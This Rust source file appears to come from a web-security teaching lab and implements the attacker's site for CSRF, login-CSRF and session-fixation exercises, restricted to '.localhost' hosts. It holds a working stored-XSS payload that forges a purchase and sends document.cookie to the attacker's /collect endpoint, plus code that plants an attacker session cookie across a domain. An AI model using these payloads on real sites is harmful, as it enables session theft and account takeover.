//! Mallory's own site: pages that look harmless, and the cookies that they collected.

use std::sync::{Arc, Mutex, PoisonError};

use axum::{
    Extension, Form, Router,
    extract::{Query, Request},
    http::{HeaderName, StatusCode, Uri, header::SET_COOKIE},
    response::{AppendHeaders, Html, Redirect},
    routing::{get, post},
};
use lesson_page::Failure;
use minijinja::{context, value::Serde};
use serde::Deserialize;
use tower_sessions::session::Id;

use crate::{attack::encoded, lab::Lab, page::PAGES, shop::ACCOUNTS, site::COOKIES};

/// The cookies that were sent here.
#[derive(Clone, Default)]
struct CollectedCookies(Arc<Mutex<Vec<String>>>);

/// Returns mallory's site. Her notes go to the shops of this lab.
pub(crate) fn routes(lab: Lab) -> Router {
    Router::new()
        .route("/", get(index))
        .route("/csrf-by-link", get(bait))
        .route("/csrf-by-form", get(bait))
        .route("/login-csrf", get(bait))
        .route("/tossed-session", get(bait).post(toss))
        .route("/notes", get(bait).post(write_notes))
        .route("/collect", get(collect))
        .route("/forget", post(forget))
        .layer(Extension(CollectedCookies::default()))
        .layer(Extension(lab))
}

#[derive(Deserialize)]
struct At {
    /// The host of the shop to attack, such as `vulnerable.localhost:4004`.
    at: Option<String>,
}

impl At {
    /// Accepts only hosts on this machine, so that nobody can attack others with it.
    fn host(self) -> Result<String, (StatusCode, &'static str)> {
        let is_here = |host: &String| {
            host.parse::<Uri>().is_ok_and(|host| host.host().is_some_and(|name| name.ends_with(".localhost")))
        };
        let sentence =
            "Open this page from the list of attacks, which adds the shop's host: ?at=vulnerable.localhost\n";
        self.at.filter(is_here).ok_or((StatusCode::BAD_REQUEST, sentence))
    }
}

async fn index(Extension(cookies): Extension<CollectedCookies>) -> Result<Html<String>, Failure> {
    let cookies = cookies.0.lock().unwrap_or_else(PoisonError::into_inner).clone();
    PAGES.render("evil.html", context! { cookies => Serde(cookies) })
}

async fn bait(Query(at): Query<At>, request: Request) -> axum::response::Result<Html<String>> {
    let at = at.host()?;
    let values = context! {
        kind => request.uri().path().trim_start_matches('/'),
        at => at,
        username => ACCOUNTS[3].0,
        password => ACCOUNTS[3].1,
        note => note(crate::host(&request)),
    };
    Ok(PAGES.render("bait.html", values)?)
}

// ANCHOR: note
/// The note that mallory writes into the shops. Its script buys a yacht, and sends the cookie to mallory.
fn note(home: &str) -> String {
    format!(
        "Nice shop!<script>
  const token = document.querySelector('[name=csrf]')?.value ?? '';
  fetch('/buy', {{ method: 'POST', body: new URLSearchParams({{ item: 'a yacht', csrf: token }}) }});
  new Image().src = 'http://{home}/collect?cookie=' + encodeURIComponent(document.cookie);
</script>"
    )
}
// ANCHOR_END: note

/// Writes mallory's notes without a login, which is faster than by hand.
async fn write_notes(
    Extension(lab): Extension<Lab>,
    Query(at): Query<At>,
    request: Request,
) -> axum::response::Result<Redirect> {
    let at = at.host()?;
    lab.shops().iter().for_each(|shop| shop.write(ACCOUNTS[3].0, &note(crate::host(&request))));
    Ok(Redirect::to(&format!("http://{at}/")))
}

#[derive(Deserialize)]
struct Tossed {
    /// The ID of mallory's own session.
    id: String,
}

/// Sets mallory's session as the cookie of every host beside this one, which any host of a domain may do.
async fn toss(
    Query(at): Query<At>,
    Form(Tossed { id }): Form<Tossed>,
) -> axum::response::Result<(AppendHeaders<[(HeaderName, String); 3]>, Redirect)> {
    let at = at.host()?;
    let id: Id = id.parse().map_err(|_| (StatusCode::BAD_REQUEST, "That is not a session ID.\n"))?;
    let domain = at.split_once('.').map_or("", |(_, domain)| domain).split(':').next().unwrap_or_default();
    let [plain, host] = COOKIES;
    let names = [plain.to_owned(), host.to_owned(), encoded(host)];
    let cookies = names.map(|name| (SET_COOKIE, format!("{name}={id}; Domain={domain}; Path=/; Secure")));
    Ok((AppendHeaders(cookies), Redirect::to(&format!("http://{at}/"))))
}

#[derive(Deserialize)]
struct Stolen {
    cookie: String,
}

async fn collect(
    Extension(cookies): Extension<CollectedCookies>,
    Query(Stolen { cookie }): Query<Stolen>,
) -> StatusCode {
    let mut cookies = cookies.0.lock().unwrap_or_else(PoisonError::into_inner);
    if !cookie.is_empty() && cookies.len() < 20 {
        cookies.push(cookie.chars().take(200).collect());
    }
    StatusCode::NO_CONTENT
}

async fn forget(Extension(cookies): Extension<CollectedCookies>) -> Redirect {
    cookies.0.lock().unwrap_or_else(PoisonError::into_inner).clear();
    Redirect::to("/")
}
